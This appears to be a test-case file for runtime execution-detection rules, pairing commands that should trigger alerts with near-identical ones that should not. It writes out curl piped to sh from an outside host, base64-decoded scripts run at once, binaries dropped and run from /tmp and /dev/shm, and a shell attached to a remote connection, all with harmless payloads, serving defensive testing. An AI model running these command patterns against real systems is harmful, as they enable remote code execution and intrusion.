# Cases of execution.yaml.

fires_shell_spawned_by_server_process() { server 'sh -c "echo pwned; :"'; }
quiet_shell_spawned_by_server_process() { sh -c 'echo a shell below a shell; :'; }

fires_download_run_at_once() { sh -c "curl -s http://$outside/install.sh >/dev/null | sh"; }
quiet_download_run_at_once() { sh -c "curl -s http://$outside/install.sh -o /tmp/install.sh; :"; }

fires_encoded_script_run_at_once() { sh -c 'echo ZWNobyBoaQo= | base64 -d | sh'; }
quiet_encoded_script_run_at_once() { sh -c 'echo ZWNobyBoaQo= | base64 -d > /tmp/text'; }

fires_program_run_from_temporary_folder() {
	cp /usr/bin/true /tmp/dropped
	/tmp/dropped
}
quiet_program_run_from_temporary_folder() {
	named make /usr/bin/dash
	cp /usr/bin/true /tmp/conftest
	make -c '/tmp/conftest
	:'
}

fires_program_run_from_shared_memory() {
	cp /usr/bin/true /dev/shm/dropped
	/dev/shm/dropped
}
quiet_program_run_from_shared_memory() {
	cp /usr/bin/true /dev/shm/dropped
	cmp /dev/shm/dropped /usr/bin/true
}

fires_downloaded_program_run() {
	curl -s "http://$outside/agent" >/tmp/page
	cp /usr/bin/true /tmp/agent
	chmod +x /tmp/agent
	/tmp/agent
}
quiet_downloaded_program_run() {
	curl -s "http://$outside/agent" >/srv/page
	cp /usr/bin/true /srv/tool
	chmod +x /srv/tool
	/srv/tool
}

fires_program_run_without_a_file() { act memory /usr/bin/true; }
quiet_program_run_without_a_file() {
	named runc /usr/bin/dash
	runc -c 'act memory /usr/bin/true
	:' # as runc does with itself
}

fires_hidden_program_run() {
	cp /usr/bin/true /srv/.cache
	/srv/.cache
}
quiet_hidden_program_run() {
	mkdir /srv/.local
	cp /usr/bin/true /srv/.local/tool
	/srv/.local/tool # only its folder is hidden
}

fires_shell_attached_to_connection() { act attach "$outside:443" /bin/sh -c 'echo hello; :'; }
quiet_shell_attached_to_connection() { sh -c 'echo hello | cat > /tmp/text'; }

# in a container
fires_interactive_shell_in_container() {
	named runtime /usr/bin/script
	runtime -qec 'echo typed; :' /dev/null </dev/null
}
# in a container
quiet_interactive_shell_in_container() { bash -c 'echo a script; :'; }
